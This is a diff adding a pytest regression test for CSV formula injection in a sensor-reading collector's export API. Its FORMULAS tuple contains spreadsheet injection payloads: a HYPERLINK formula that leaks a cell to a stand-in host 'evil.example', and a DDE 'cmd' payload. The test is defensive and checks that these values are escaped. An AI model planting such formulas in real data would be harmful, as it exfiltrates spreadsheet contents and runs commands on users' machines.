@@ -11,7 +11,7 @@ from typing import Any
 import httpx
 import pytest
 
-from collector.api.csv_rows import BUCKET_COLUMNS, READING_COLUMNS
+from collector.api.csv_rows import BUCKET_COLUMNS, READING_COLUMNS, text_cell
 from collector.api.routes.readings import CSV_PAGE
 from collector.storage import open_storage
 from specs.records import Quality, Reading, iso_time
@@ -201,3 +201,42 @@ async def test_openapi_documents_the_csv_stream(client: httpx.AsyncClient) -> No
     assert "text/csv" in operation["responses"]["200"]["content"]
     assert "no `next`" in operation["description"]
     assert {"every", "tz"} <= {p["name"] for p in operation["parameters"]}
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"details")', "@SUM(1+1)", "+cmd|' /C calc'!A0")
+
+
+async def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text(storage_url: str) -> None:
+    """Flags are any text the gateway signed; CSV goes to regulators' spreadsheets.
+
+    Found by the security hostile test: a flag starting with = + - @ made its cell a formula
+    (CWE-1236) once the export was opened in a spreadsheet. Such a cell is prefixed with ',
+    which spreadsheets show as text; JSON keeps the flag as sent, and a unit "-" stays "-".
+    """
+    readings = [
+        Reading(
+            "T001-LT-01",
+            "WHP-LT",
+            iso_time(BASE_TIME + n),
+            1.0,
+            "m",
+            Quality.GOOD,
+            (formula, "backfill"),
+        )
+        for n, formula in enumerate(FORMULAS)
+    ]
+    async with open_storage(storage_url) as storage:
+        await register(storage, NANCHANG)
+        await store_blocks(storage, NANCHANG, [readings])
+        async with serve(storage) as http:
+            rows = await _csv(http, gateway=NANCHANG.gateway)
+            items = await _json_items(http, gateway=NANCHANG.gateway)
+    assert [row["flags"] for row in rows] == [f"'{formula};backfill" for formula in FORMULAS]
+    assert [item["flags"] for item in items] == [[formula, "backfill"] for formula in FORMULAS]
+    assert [text_cell(text) for text in ("-", "-5", "\tx", "m", "")] == [
+        "-",
+        "'-5",
+        "'\tx",
+        "m",
+        "",
+    ]
